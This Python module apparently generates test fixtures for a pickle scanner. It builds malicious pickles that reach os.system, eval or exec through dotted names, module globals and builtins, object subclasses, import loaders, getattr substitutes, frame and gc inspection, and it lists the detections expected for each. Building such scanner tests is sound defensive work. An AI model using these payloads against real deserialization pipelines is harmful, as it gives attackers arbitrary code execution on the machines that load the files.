"""Walks from harmless objects to dangerous ones: getattr, dotted names, dicts of modules, subclasses."""

from assembler import Code, call, get_attribute, lit, n, pickled
from case import COMMAND, EXPRESSION, SOURCE, Case


def dotted():
    """Dotted names in STACK_GLOBAL."""
    for names, technique in {
        "shutil:os.system": "a module that another module imported",
        "os:sys.modules.get": "the method of a dict that is an attribute of an imported module",
        "_collections_abc:sys.modules.get": "the same through a module that looks like pure data",
        "collections:_collections_abc.sys.modules.get": "the same through two modules",
        "collections:namedtuple.__globals__.get": "the globals of a function",
        "random:_os.system": "a private name for an imported module",
        "tempfile:_shutil.os.system": "two steps through imported modules",
        "pathlib:os.system": "a module that honest pickles name",
        "uuid:os.system": "a module that honest pickles name",
        "argparse:_os.system": "a module that honest pickles name",
        "fractions:sys.modules.get": "a module that honest pickles name",
        "logging:os.system": "a module that honest pickles name",
        "zoneinfo:_tzpath.os.system": "a module that honest pickles name",
        "enum:sys.modules.get": "a module that honest pickles name",
        "copyreg:pickle.__globals__.get": "a function's globals",
        "copyreg:__builtins__.get": "the builtins of a module",
        "collections:__builtins__.get": "the builtins of a module that honest pickles name",
    }.items():
        dotted_name = names.replace(":", ".")
        if names.endswith("system"):
            value = call(names, COMMAND)
        elif "__globals__" in names:
            value = call(call("operator.getitem", call(names, "__builtins__"), "eval"), EXPRESSION)
        elif "__builtins__" in names:
            value = call(call(names, "eval"), EXPRESSION)
        else:
            value = call(get_attribute(call(names, "os"), "system"), COMMAND)
        yield Case(
            f"dotted-{dotted_name}.pkl",
            f"a dotted name: {technique}",
            pickled(value),
            [f"call {dotted_name}"],
        )
    yield Case(
        "dotted-type-call.pkl",
        "a dotted name ends in __call__",
        pickled(call("os:system.__call__", COMMAND)),
        ["call os.system.__call__"],
    )
    yield Case(
        "dotted-subclasses.pkl",
        "a dotted name ends in __subclasses__; the loader of built-in modules is among them",
        pickled(
            call("builtins:object.__subclasses__")
            + b"0"
            + call(
                get_attribute(call("_frozen_importlib:BuiltinImporter.load_module", "posix"), "system"),
                COMMAND,
            )
        ),
        ["call builtins.object.__subclasses__", "call _frozen_importlib.BuiltinImporter.load_module"],
    )
    yield Case(
        "dotted-loader.pkl",
        "the __loader__ of a harmless module loads another",
        pickled(call(get_attribute(call("itertools:__loader__.load_module", "posix"), "system"), COMMAND)),
        ["call itertools.__loader__.load_module", "call builtins.getattr"],
    )
    yield Case(
        "dotted-spec.pkl",
        "the __spec__ of a harmless module",
        pickled(
            call(get_attribute(call("_functools:__spec__.loader.load_module", "posix"), "system"), COMMAND)
        ),
        ["call _functools.__spec__.loader.load_module"],
    )


def getattr_chains():
    """getattr in the ways that protocols 0 to 3 have it."""
    globals_ = get_attribute(n("collections.namedtuple"), "__globals__")
    yield Case(
        "getattr-globals.pkl",
        "getattr finds a function's globals, operator.getitem their builtins",
        pickled(
            call(call("operator.getitem", call("operator.getitem", globals_, "__builtins__"), "exec"), SOURCE)
        ),
        ["call builtins.getattr", "call operator.getitem"],
    )
    base = get_attribute(get_attribute(lit(()), "__class__"), "__base__")
    subclasses = call(get_attribute(base, "__subclasses__"))
    named = call(
        "builtins.dict",
        call(
            "builtins.zip",
            call("builtins.list", call("builtins.map", call("operator.attrgetter", "__name__"), subclasses)),
            subclasses,
        ),
    )
    importer = call("operator.getitem", named, "BuiltinImporter")
    module = call(get_attribute(importer, "load_module"), "posix")
    yield Case(
        "getattr-subclasses.pkl",
        "from an empty tuple to object, its subclasses, a loader, a module, a function",
        pickled(call(get_attribute(module, "system"), COMMAND)),
        ["call builtins.getattr", "call operator.attrgetter"],
    )
    yield Case(
        "getattr-protocol0.pkl",
        "getattr in protocol 0, as Python writes dotted names",
        b"c__builtin__\ngetattr\np0\n(cshutil\nos\nVsystem\ntR(V" + COMMAND.encode() + b"\ntR.",
        ["call builtins.getattr", "import shutil.os"],
    )
    yield Case(
        "attrgetter-dotted.pkl",
        "operator.attrgetter with a dotted name",
        pickled(call(call(call("operator.attrgetter", "os.system"), n("tempfile._shutil")), COMMAND)),
        ["call operator.attrgetter", "import tempfile._shutil"],
    )
    yield Case(
        "attrgetter-newobj.pkl",
        "attrgetter and methodcaller made by NEWOBJ",
        pickled(
            Code(
                n("operator.methodcaller")
                + lit("system")
                + lit(COMMAND)
                + b"\x86\x81"
                + n("tempfile._os")
                + b"\x85R"
            )
        ),
        ["call operator.methodcaller", "import tempfile._os"],
    )
    yield Case(
        "getattribute.pkl",
        "object.__getattribute__ in place of getattr",
        pickled(call(call("builtins:object.__getattribute__", n("tempfile._os"), "system"), COMMAND)),
        ["call builtins.object.__getattribute__", "import tempfile._os"],
    )
    yield Case(
        "vars-getitem.pkl",
        "vars and operator.getitem in place of getattr",
        pickled(call(call("operator.getitem", call("builtins.vars", n("tempfile._os")), "system"), COMMAND)),
        ["call builtins.vars", "call operator.getitem", "import tempfile._os"],
    )
    yield Case(
        "globals.pkl",
        "globals() of the loader's own module",
        pickled(
            call(
                get_attribute(call("operator.getitem", call("builtins.globals"), "__builtins__"), "eval"),
                EXPRESSION,
            )
        ),
        ["call builtins.globals", "call builtins.getattr"],
    )
    yield Case(
        "getitem-method.pkl",
        "dict.get and dict.__getitem__ by dotted names",
        pickled(call(call("builtins:dict.__getitem__", n("tempfile:_os.__dict__"), "system"), COMMAND)),
        ["import tempfile._os.__dict__"],
    )
    yield Case(
        "inspect-frame.pkl",
        "sys._getframe finds the globals of whoever loads the pickle",
        pickled(
            call(
                call("operator.getitem", get_attribute(call("sys._getframe"), "f_builtins"), "eval"),
                EXPRESSION,
            )
        ),
        ["call sys._getframe", "call builtins.getattr"],
    )
    yield Case(
        "gc-objects.pkl",
        "gc.get_referents finds the dict of a module",
        pickled(
            call(
                call(
                    "operator.getitem",
                    call("operator.getitem", call("gc.get_referents", n("tempfile._os")), 0),
                    "system",
                ),
                COMMAND,
            )
        ),
        ["call gc.get_referents", "import tempfile._os"],
    )


def cases():
    """All cases of this module."""
    for group in (dotted, getattr_chains):
        yield from group()
